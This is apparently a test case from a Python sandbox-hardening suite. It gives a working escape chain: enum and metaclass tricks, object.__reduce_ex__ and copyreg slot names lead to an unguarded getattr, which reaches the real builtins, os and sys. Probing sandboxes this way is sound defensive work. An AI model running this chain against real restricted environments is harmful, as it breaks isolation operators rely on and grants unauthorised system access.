# technique: copyreg._slotnames reads a user metaclass's __slots__ assigned after creation (allowed dunder store); object.__reduce_ex__ (captured via enum's mixin __eq__, case 382) on a user metaclass M2 whose custom mro() is (M2, type) (no object, so __getstate__ binds from the meta-metaclass and hits object_getstate_default; __getnewargs__ on MM makes required=0) does an unchecked PyObject_GetAttr(M2, '__getattribute__') -> unbound type.__getattribute__ -> object.__getattribute__ / object.__subclasses__ -> json.dumps.__globals__['__builtins__']
# expect: any
import enum, json
got = []
class Spy:
    def __eq__(self, other):
        got.append(other)
        return False
    __hash__ = object.__hash__
Mixin = type("Mixin", (), {"__reduce_ex__": Spy()})
class E(Mixin, enum.Enum):
    A = 1
red = got[0]                                # object.__reduce_ex__ (guarded: serves user objects only)
MM = type("MM", (type,), {"mro": lambda cls: (cls, type), "__getnewargs__": lambda self: ()})
M2 = MM("M2", (type,), {})                  # a user metaclass whose MRO is (M2, type): no object
MM.__slots__ = ["__getattribute__"]         # copyreg._slotnames(MM) -> names read by object_getstate_default
tga = red(M2, 2)[2][1]["__getattribute__"]  # type.__getattribute__, unbound
print("type.__getattribute__:", tga)
oga = tga(object, "__getattribute__")       # object.__getattribute__, unbound: unchecked getattr
subs = tga(object, "__subclasses__")()
print("object.__subclasses__():", len(subs))
g = oga(json.dumps, "__globals__")
bi = g["__builtins__"]
print("json globals:", sorted(g)[:6])
print("real builtins open:", bi["open"], "eval:", bi["eval"])
os = bi["__import__"]("os")
print("os:", os, os.getpid())
sysm = bi["__import__"]("sys")
print("harness:", sysm.modules.get("_safepy_harness"), sorted(sysm.modules)[:5])
